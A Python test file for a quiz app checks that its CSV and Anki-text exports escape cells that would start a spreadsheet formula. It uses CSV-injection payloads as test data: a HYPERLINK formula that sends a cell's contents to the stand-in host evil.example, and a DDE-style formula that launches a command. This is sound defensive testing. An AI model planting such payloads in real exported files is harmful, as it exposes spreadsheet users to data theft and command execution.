"""No cell of an exported CSV starts a spreadsheet formula (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from quizapp.deck import load_deck
from quizapp.interop import dumps_table, table_to_deck
from quizapp.interop.anki_text import GUID_COLUMN
from quizapp.interop.cells import FORMULA_STARTS, spreadsheet_safe
from quizapp.storage import open_store
from tests.conftest import SAMPLE_DECK

from .cli import cli

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def cells_of(text: str, delimiter: str = ",") -> list[list[str]]:
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    return list(csv.reader(io.StringIO("\n".join(lines)), delimiter=delimiter))


def test_progress_csv_neutralises_profile_names_and_flag_notes(tmp_path: Path) -> None:
    deck = tmp_path / "demo.yaml"
    deck.write_text(SAMPLE_DECK, encoding="utf-8")
    db = tmp_path / "q.db"
    store = open_store(db, profile=HYPERLINK)
    store.import_deck(load_deck(deck), deck)
    first, second, third = (row.item_id for row in store.browse()[:3])
    store.set_flagged(first, True, "@SUM(1+1)*cmd|' /C calc'!A0")
    store.set_flagged(second, True, "+1")
    store.set_flagged(third, True, "\t-2")
    store.close()
    out = tmp_path / "progress.csv"
    result = cli("export", "--progress", "-o", out, db=db)
    assert result.exit_code == 0, result.stderr
    rows = cells_of(out.read_text(encoding="utf-8"))
    body = [r for r in rows[1:] if r[0] != "default"]
    assert body and all(r[0] == "'" + HYPERLINK for r in body)
    notes = {r[-1] for r in body if r[-1]}
    assert notes == {"'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'\t-2"}
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_anki_text_export_keeps_formulas_out_and_reads_back_the_same(tmp_path: Path) -> None:
    hostile = (
        SAMPLE_DECK.replace("title: Demo deck", f"title: '{HYPERLINK}'")
        .replace("question: Capital of France?", "question: '=1+1'")
        .replace("answer: Paris,", "answer: '@Paris',")
        .replace("answer: Green", "answer: '-Green'")
    )
    path = tmp_path / "demo.yaml"
    path.write_text(hostile, encoding="utf-8")
    deck = load_deck(path)
    for separator in (",", "\t"):
        text = dumps_table(deck, separator)
        for row in cells_of(text, separator):
            cells = [c for i, c in enumerate(row) if i != GUID_COLUMN - 1]
            assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), row
        name = "t.csv" if separator == "," else "t.tsv"
        assert table_to_deck(text, Path(name)) == deck  # nothing lost on the way back


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (cell, "'" + cell)
